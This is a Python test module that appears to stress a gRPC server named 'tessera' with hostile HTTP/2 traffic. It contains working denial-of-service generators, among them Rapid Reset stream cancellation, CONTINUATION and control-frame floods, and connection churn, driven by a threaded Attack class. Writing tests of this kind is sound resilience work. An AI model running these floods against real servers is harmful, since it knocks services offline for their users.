"""What strangers send to a server's port: HTTP/2 frames as no client of gRPC would send them.

    with Attack(server.address, reset_at_once, connections=4) as attack:
        ...
    attack.closed    the connections that the server has closed

An attack is a generator: it is given a Connection, and sends until the server closes it or nobody wants more. One
that was closed comes again on a new connection.
"""
import contextlib
import os
import signal
import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
JOIN = b"/tessera.v1.Coordinator/Join"
GET = b"/tessera.v1.Status/Get"
WATCH = b"/tessera.v1.Status/Watch"
PUSH = b"/tessera.v1.ParameterServer/Push"
# Frames are sent so many at a time.
BATCH = 200


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    """A header, in the form that needs no tables."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def fields(method, token=None):
    return field(b":method", b"POST") + field(b":scheme", b"http") + field(b":path", method) + \
        field(b":authority", b"x") + field(b"content-type", b"application/grpc") + field(b"te", b"trailers") + \
        (field(b"authorization", b"Bearer " + token) if token else b"")


def begin_call(stream, method, token=None):
    return frame(HEADERS, END_HEADERS, stream, fields(method, token))


def whole_call(stream, method, token=None):
    """A call with an empty message."""
    return begin_call(stream, method, token) + frame(DATA, END_STREAM, stream, bytes(5))


class Connection:
    """A client that has said that it speaks HTTP/2. `context`: TLS's."""

    def __init__(self, address, context=None, settings=b"", acknowledges=True, token=None):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=10)
        self.socket.settimeout(2)
        self.token, self.stream = token, -1
        try:
            if context:
                self.socket = context.wrap_socket(self.socket, server_hostname=host)
            self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
            if acknowledges:
                # The server's SETTINGS come first.
                self.socket.recv(9)
                self.socket.sendall(frame(SETTINGS, ACK, 0))
        except OSError:
            self.close()
            raise

    def next_stream(self):
        self.stream += 2
        return self.stream

    def send(self, data):
        self.socket.sendall(data)

    def read(self):
        """Takes what there is; raises OSError where the server has closed."""
        self.socket.settimeout(0.0001)
        with contextlib.suppress(TimeoutError, ssl.SSLWantReadError, BlockingIOError):
            while True:
                if not self.socket.recv(1 << 16):
                    raise ConnectionResetError
        self.socket.settimeout(2)

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.close()


# Each sends some frames whenever it is asked, and says how it connects.
def unacknowledged(connection, method=JOIN):
    """Calls of a client that is not held to a number of them, as it has not heard of one."""
    while True:
        yield b"".join(begin_call(connection.next_stream(), method, connection.token) for _ in range(BATCH))


unacknowledged.connects = {"acknowledges": False}


def unacknowledged_whole(connection):
    while True:
        yield b"".join(whole_call(connection.next_stream(), GET, connection.token) for _ in range(BATCH))


unacknowledged_whole.connects = {"acknowledges": False, "settings": struct.pack(">HI", 4, 0)}


def acknowledged_early(connection):
    """The acknowledgement comes before what it is about."""
    yield frame(SETTINGS, ACK, 0)
    yield from unacknowledged(connection, PUSH)


acknowledged_early.connects = {"acknowledges": False}


def many_streams(connection):
    yield from unacknowledged(connection, WATCH)


def reset_at_once(connection):
    while True:
        batch = b""
        for _ in range(BATCH):
            stream = connection.next_stream()
            batch += begin_call(stream, WATCH, connection.token) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        yield batch


def made_to_reset(connection):
    """The server resets the calls itself, for windows that grow by nothing."""
    while True:
        batch = b""
        for _ in range(BATCH):
            stream = connection.next_stream()
            batch += begin_call(stream, WATCH, connection.token) + frame(WINDOW_UPDATE, 0, stream, bytes(4))
        yield batch


def headers_without_end(connection):
    yield frame(HEADERS, 0, connection.next_stream(), fields(JOIN, connection.token))
    while True:
        yield frame(CONTINUATION, 0, connection.stream, field(b"x-a", b"b" * 100) * 100)


def headers_of_nothing(connection):
    yield frame(HEADERS, 0, connection.next_stream(), fields(JOIN, connection.token))
    while True:
        yield frame(CONTINUATION, 0, connection.stream) * BATCH


def pings(connection):
    while True:
        yield frame(PING, 0, 0, bytes(8)) * BATCH


def settings(connection):
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * BATCH


def priorities(connection):
    while True:
        yield frame(PRIORITY, 0, 1, bytes(5)) * BATCH


def empty_data(connection):
    yield begin_call(connection.next_stream(), PUSH, connection.token)
    while True:
        yield frame(DATA, 0, connection.stream) * BATCH


def window_updates(connection):
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * BATCH


def unknown_frames(connection):
    while True:
        yield frame(0x77, 0, 0, bytes(8)) * BATCH


def unknown_methods(connection):
    """Calls that end at once; the client waits for each 32."""
    while True:
        yield b"".join(whole_call(connection.next_stream(), b"/x/y", connection.token) for _ in range(30))
        time.sleep(0.001)


def connections(connection):
    """Nothing but new connections."""
    raise OSError
    yield


def silence(connection):
    while True:
        time.sleep(0.05)
        yield b""


FRAMES = (unacknowledged, unacknowledged_whole, acknowledged_early, many_streams, reset_at_once, made_to_reset,
          headers_without_end, headers_of_nothing, pings, settings, priorities, empty_data, window_updates,
          unknown_frames)


class Attack(threading.Thread):
    """One kind of attack on some connections, each opened again when the server closes it, until the end."""

    def __init__(self, address, kind, connections=1, pause=0.0, **how):
        super().__init__(daemon=True)
        self.address, self.kind, self.count, self.pause, self.how = address, kind, connections, pause, how
        self.closed = self.refused = self.bytes = 0
        self.over = threading.Event()

    def __enter__(self):
        self.start()
        return self

    def __exit__(self, *error):
        self.over.set()
        self.join()

    def open(self):
        try:
            connection = Connection(self.address, **{**getattr(self.kind, "connects", {}), **self.how})
            return connection, self.kind(connection)
        except OSError:
            self.refused += 1
            return None

    def run(self):
        open_ones = [None] * self.count
        while not self.over.is_set():
            for i in range(self.count):
                if self.over.is_set():
                    break
                open_ones[i] = open_ones[i] or self.open()
                if open_ones[i] is None:
                    continue
                connection, frames = open_ones[i]
                try:
                    data = next(frames)
                    connection.send(data)
                    self.bytes += len(data)
                    if not getattr(self.kind, "reads_not", False):
                        connection.read()
                except OSError:
                    self.closed += 1
                    connection.close()
                    open_ones[i] = None
            if self.pause:
                time.sleep(self.pause)
        for one in open_ones:
            if one:
                one[0].close()
